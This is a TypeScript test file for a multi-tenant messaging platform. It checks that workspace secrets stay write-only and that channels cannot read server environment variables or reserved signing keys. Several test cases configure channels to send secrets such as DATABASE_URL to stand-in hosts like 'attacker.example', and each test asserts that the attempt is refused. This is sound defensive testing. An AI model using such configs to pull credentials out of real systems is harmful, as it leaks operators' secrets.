/**
 * Secrets belong to a workspace (issue 19, item 2): a channel cannot name a server environment
 * variable the operator did not allow; credentials live encrypted in the workspace's secret store,
 * are write-only through the API, and never come back in an answer, an error or a send's reason.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { openTestStores, startTestServer, callApi, tempDir, uniqueSlug } from '../helpers.ts';
import { runImport } from '../../src/ingest/importer.ts';
import { type Workspace, WorkspaceService } from '../../src/access/workspaces.ts';
import { ApiKeyService } from '../../src/access/keys.ts';
import type { Stores } from '../../src/stores/stores.ts';
import { startSmsHttpServer, type SmsHttpServer } from '../../src/channels/testing/sms-http-server.ts';
import { startLocalServer, type LocalServer } from '../../src/channels/testing/local-server.ts';

// The contract servers listen on loopback; the egress guard lets them through only when told.
process.env.SIYU_ALLOW_PRIVATE_EGRESS = '1';
// A server variable a tenant must never be able to read through a channel.
process.env.SIYU_TEST_SERVER_SECRET = 'server-only-value-DO-NOT-LEAK-7731';

let stores: Stores;
let base: string;
let close: () => Promise<void>;
let admin: string;
let operator: string;
let otherAdmin: string;
let gateway: SmsHttpServer;
let echo: LocalServer;
let ws: Workspace;

const GATEWAY_TOKEN = 'gateway-token-from-the-secret-store-4242';

before(async () => {
  ({ stores } = await openTestStores());
  const server = await startTestServer(stores);
  base = server.base;
  close = () => server.app.close();
  const workspaces = new WorkspaceService(stores.state);
  const keys = new ApiKeyService(stores.state);
  ws = await workspaces.create({ slug: uniqueSlug('secrets'), name: 'secrets' });
  const other = await workspaces.create({ slug: uniqueSlug('secrets-other'), name: 'other' });
  admin = (await keys.create(ws.id, 'admin', 'admin')).token;
  operator = (await keys.create(ws.id, 'ops', 'operator')).token;
  otherAdmin = (await keys.create(other.id, 'admin', 'admin')).token;
  gateway = await startSmsHttpServer({ token: GATEWAY_TOKEN });
  // A provider that echoes the credential it was sent in its error (some do).
  echo = await startLocalServer((request) => ({ status: 400, body: `rejected: ${String(request.headers.authorization).replace(/^Bearer /, '')} is not a sender` }));
});
after(async () => {
  await close();
  await gateway.close();
  await echo.close();
  await stores.close();
});

test('a channel naming a server environment variable is refused when saved (tokenEnv: DATABASE_URL)', async () => {
  for (const name of ['DATABASE_URL', 'SIYU_TEST_SERVER_SECRET', 'SIYU_SECRET_KEY']) {
    const sms = await callApi(base, 'POST', '/api/v1/channels', admin, {
      key: 'leaky_sms',
      kind: 'sms',
      config: { provider: 'http', url: 'https://attacker.example/sms', tokenEnv: name },
    });
    assert.equal(sms.status, 400, `${name}: ${sms.text}`);
    assert.match(sms.json.error.message, new RegExp(`config\\.tokenEnv names the server environment variable ${name}.*SIYU_CHANNEL_SECRET_ENV_ALLOW`));
    const hook = await callApi(base, 'POST', '/api/v1/channels', admin, { key: 'leaky_hook', kind: 'webhook', config: { url: 'https://attacker.example/hook', secretEnv: name } });
    assert.equal(hook.status, 400, hook.text);
  }
  const list = await callApi(base, 'GET', '/api/v1/channels', admin);
  assert.deepEqual(
    list.json.channels.filter((c: { key: string }) => c.key.startsWith('leaky')),
    [],
  );
});

test('a channel saved before the rule (stored with an env name) is refused when it sends, and the value never shows', async () => {
  const caller = await new ApiKeyService(stores.state).authenticate(admin);
  const definition = {
    key: 'legacy_sms',
    kind: 'sms',
    consent: 'opt_out',
    costPerMessage: 0,
    ratePerMinute: 10,
    concurrency: 1,
    config: { provider: 'http', url: gateway.sendUrl, tokenEnv: 'SIYU_TEST_SERVER_SECRET', timeoutMs: 2000 },
  };
  await stores.state.db
    .insertInto('channels')
    .values({ workspace_id: caller!.workspaceId, key: 'legacy_sms', kind: 'sms', definition: JSON.stringify(definition) })
    .execute();
  const sent = await callApi(base, 'POST', '/api/v1/channels/legacy_sms/test', admin, { address: '13800138000' });
  assert.equal(sent.status, 400, sent.text);
  assert.match(sent.json.error.message, /SIYU_TEST_SERVER_SECRET, which this server does not let channels read/);
  assert.ok(!sent.text.includes('DO-NOT-LEAK'));
  assert.equal(gateway.received.length, 0, 'nothing went out');
});

test('an allow-listed environment variable still works (SIYU_CHANNEL_SECRET_ENV_ALLOW)', async () => {
  process.env.SIYU_CHANNEL_SECRET_ENV_ALLOW = 'SOME_OTHER, SIYU_TEST_GATEWAY_TOKEN';
  process.env.SIYU_TEST_GATEWAY_TOKEN = GATEWAY_TOKEN;
  try {
    const saved = await callApi(base, 'POST', '/api/v1/channels', admin, {
      key: 'env_sms',
      kind: 'sms',
      config: { provider: 'http', url: gateway.sendUrl, tokenEnv: 'SIYU_TEST_GATEWAY_TOKEN' },
    });
    assert.equal(saved.status, 201, saved.text);
    const sent = await callApi(base, 'POST', '/api/v1/channels/env_sms/test', admin, { address: '13800138001', content: { text: 'allow-listed' } });
    assert.equal(sent.json.outcome, 'sent', sent.text);
  } finally {
    delete process.env.SIYU_CHANNEL_SECRET_ENV_ALLOW;
    delete process.env.SIYU_TEST_GATEWAY_TOKEN;
  }
});

test('secrets are write-only: no answer, listing, error, audit entry or OpenAPI example carries the value', async () => {
  const value = 'sms-gateway-credential-abcdef-9876';
  const put = await callApi(base, 'PUT', '/api/v1/secrets/sms_gateway', admin, { value });
  assert.equal(put.status, 200, put.text);
  assert.equal(put.json.secret.hint, '••••9876');
  const list = await callApi(base, 'GET', '/api/v1/secrets', admin);
  assert.deepEqual(
    list.json.secrets.map((s: { name: string; hint: string }) => [s.name, s.hint]),
    [['sms_gateway', '••••9876']],
  );
  const badName = await callApi(base, 'PUT', '/api/v1/secrets/Bad%20Name', admin, { value });
  assert.equal(badName.status, 400);
  assert.match(badName.json.error.message, /name/);
  const badBody = await callApi(base, 'PUT', '/api/v1/secrets/sms_gateway', admin, { value, extra: value });
  assert.equal(badBody.status, 400);
  const audit = await callApi(base, 'GET', '/api/v1/audit', admin);
  const openapi = await fetch(`${base}/api/openapi.json`).then((r) => r.text());
  for (const text of [put.text, list.text, badName.text, badBody.text, audit.text, openapi]) assert.ok(!text.includes('credential-abcdef'), text.slice(0, 300));
  assert.ok(openapi.includes('/api/v1/secrets/{name}'));
  // Only admins, and only their own workspace's.
  assert.equal((await callApi(base, 'GET', '/api/v1/secrets', operator)).status, 403);
  assert.equal((await callApi(base, 'PUT', '/api/v1/secrets/sms_gateway', operator, { value: 'x'.repeat(20) })).status, 403);
  assert.deepEqual((await callApi(base, 'GET', '/api/v1/secrets', otherAdmin)).json.secrets, []);
  assert.equal((await callApi(base, 'DELETE', '/api/v1/secrets/sms_gateway', otherAdmin)).status, 404);
});

test('a channel names a secret of its workspace: a missing one is refused at save, a set one sends to the contract server', async () => {
  const missing = await callApi(base, 'POST', '/api/v1/channels', admin, {
    key: 'sms',
    kind: 'sms',
    config: { provider: 'http', url: gateway.sendUrl, tokenSecret: 'no_such_secret' },
  });
  assert.equal(missing.status, 400);
  assert.match(missing.json.error.message, /config\.tokenSecret names the secret "no_such_secret", which is not set in this workspace/);
  // The other workspace's admin cannot name this workspace's secret either.
  const foreign = await callApi(base, 'POST', '/api/v1/channels', otherAdmin, {
    key: 'sms',
    kind: 'sms',
    config: { provider: 'http', url: gateway.sendUrl, tokenSecret: 'sms_gateway' },
  });
  assert.equal(foreign.status, 400);

  assert.equal((await callApi(base, 'PUT', '/api/v1/secrets/sms_gateway', admin, { value: GATEWAY_TOKEN })).status, 200);
  const saved = await callApi(base, 'POST', '/api/v1/channels', admin, { key: 'sms', kind: 'sms', config: { provider: 'http', url: gateway.sendUrl, tokenSecret: 'sms_gateway' } });
  assert.equal(saved.status, 201, saved.text);
  assert.ok(!saved.text.includes(GATEWAY_TOKEN));
  const before = gateway.delivered.length;
  const sent = await callApi(base, 'POST', '/api/v1/channels/sms/test', admin, { address: '13800138002', content: { text: '测试 from the store' } });
  assert.equal(sent.status, 200, sent.text);
  assert.equal(sent.json.outcome, 'sent');
  assert.equal(gateway.delivered.length, before + 1);
  assert.equal(gateway.delivered.at(-1)!.to, '13800138002');
  assert.equal(gateway.received.at(-1)!.authorization, `Bearer ${GATEWAY_TOKEN}`);
  // A secret a channel uses cannot be deleted from under it.
  const del = await callApi(base, 'DELETE', '/api/v1/secrets/sms_gateway', admin);
  assert.equal(del.status, 409);
  assert.match(del.json.error.message, /channel "sms"/);
});

test('a provider that echoes the credential does not put it in the answer', async () => {
  // Plain words: the transport's excerpt cannot tell it from prose, only the channel knows it is its secret.
  const token = 'correct-horse-battery-staple';
  assert.equal((await callApi(base, 'PUT', '/api/v1/secrets/echo_token', admin, { value: token })).status, 200);
  const saved = await callApi(base, 'POST', '/api/v1/channels', admin, {
    key: 'echo_sms',
    kind: 'sms',
    config: { provider: 'http', url: `${echo.url}/sms`, tokenSecret: 'echo_token' },
  });
  assert.equal(saved.status, 201, saved.text);
  const sent = await callApi(base, 'POST', '/api/v1/channels/echo_sms/test', admin, { address: '13800138003' });
  assert.equal(sent.json.outcome, 'failed', sent.text);
  assert.ok(!sent.text.includes(token), sent.text);
  // Deleting the channel, then its secret, works and is audited.
  assert.equal((await callApi(base, 'DELETE', '/api/v1/channels/echo_sms', admin)).status, 204);
  assert.equal((await callApi(base, 'DELETE', '/api/v1/secrets/echo_token', admin)).status, 204);
  const audit = await callApi(base, 'GET', '/api/v1/audit', admin);
  const actions = audit.json.entries?.map((e: { action: string }) => e.action) ?? audit.text;
  for (const action of ['secret.set', 'secret.delete', 'channel.delete', 'channel.test']) assert.ok(String(actions).includes(action), action);
});

test('"send a test to" a person: the channel\'s address type is looked up for them', async () => {
  const dir = tempDir();
  const members = path.join(dir, 'members.csv');
  fs.writeFileSync(members, 'member_no,phone,name\nT1,13900000001,测试一\nT2,,测试二\n');
  await runImport(stores, { workspace: ws, kind: 'members', source: 'crm', files: [members] });
  const found = await callApi(base, 'GET', '/api/v1/people?q=13900000001', admin);
  const person = found.json.people[0];
  const phone = person.identifiers.find((i: { type: string }) => i.type === 'phone').value;
  const sent = await callApi(base, 'POST', '/api/v1/channels/sms/test', admin, { personId: person.personId, content: { text: 'to a person' } });
  assert.equal(sent.status, 200, sent.text);
  assert.equal(sent.json.outcome, 'sent');
  assert.equal(sent.json.address, phone);
  assert.equal(gateway.delivered.at(-1)!.to, phone);
  const other = (await callApi(base, 'GET', `/api/v1/people?q=${encodeURIComponent('测试二')}`, admin)).json.people[0];
  const none = await callApi(base, 'POST', '/api/v1/channels/sms/test', admin, { personId: other.personId });
  assert.equal(none.status, 400);
  assert.match(none.json.error.message, /personId: person \d+ has no phone/);
  const neither = await callApi(base, 'POST', '/api/v1/channels/sms/test', admin, {});
  assert.equal(neither.status, 400);
  assert.match(neither.json.error.message, /^address: /);
});

test('Siyu’s own secrets (signkey.…, system.…, internal.…) cannot be set, deleted or listed by admins, nor named by a channel, at save or at send', async () => {
  const created = await callApi(base, 'POST', '/api/v1/identity/sign-keys', admin, { name: 'brand server' });
  assert.equal(created.status, 201, created.text);
  const name = `signkey.${created.json.key.id}`;
  const original: string = created.json.secret;
  const caller = await new ApiKeyService(stores.state).authenticate(admin);
  const { readSecret } = await import('../../src/secrets/secrets.ts');
  // The secrets API: no overwrite, no delete, not in the listing.
  for (const reserved of [name, 'signkey.sik_forged', 'system.x', 'internal.x']) {
    const put = await callApi(base, 'PUT', `/api/v1/secrets/${reserved}`, admin, { value: 'attacker-chosen-secret-0000' });
    assert.equal(put.status, 400, `${reserved}: ${put.text}`);
    assert.match(put.json.error.message, /name.*reserved/);
    const del = await callApi(base, 'DELETE', `/api/v1/secrets/${reserved}`, admin);
    assert.equal(del.status, 400, `${reserved}: ${del.text}`);
  }
  assert.equal(await readSecret(stores, caller!.workspaceId, name), original, 'the sign key is unchanged');
  const listed = await callApi(base, 'GET', '/api/v1/secrets', admin);
  assert.deepEqual(
    listed.json.secrets.filter((s: { name: string }) => s.name.startsWith('signkey.')),
    [],
  );
  // A channel naming it is refused when saved, naming the field.
  for (const [kind, config, field] of [
    ['sms', { provider: 'http', url: 'https://attacker.example/sms', tokenSecret: name }, 'tokenSecret'],
    ['webhook', { url: 'https://attacker.example/hook', secret: name }, 'secret'],
  ] as const) {
    const saved = await callApi(base, 'POST', '/api/v1/channels', admin, { key: `steal_${kind}`, kind, config });
    assert.equal(saved.status, 400, saved.text);
    assert.match(saved.json.error.message, new RegExp(`config\\.${field}.*reserved`));
  }
  // A channel stored before the rule is refused when it sends: the key never goes out.
  const definition = {
    key: 'legacy_steal',
    kind: 'sms',
    consent: 'opt_out',
    costPerMessage: 0,
    ratePerMinute: 10,
    concurrency: 1,
    config: { provider: 'http', url: gateway.sendUrl, tokenSecret: name, timeoutMs: 2000 },
  };
  await stores.state.db
    .insertInto('channels')
    .values({ workspace_id: caller!.workspaceId, key: 'legacy_steal', kind: 'sms', definition: JSON.stringify(definition) })
    .execute();
  const before = gateway.received.length;
  const sent = await callApi(base, 'POST', '/api/v1/channels/legacy_steal/test', admin, { address: '13800138000' });
  assert.equal(sent.status, 400, sent.text);
  assert.match(sent.json.error.message, /config\.tokenSecret.*reserved/);
  assert.ok(!sent.text.includes(original));
  assert.equal(gateway.received.length, before, 'nothing went out');
});
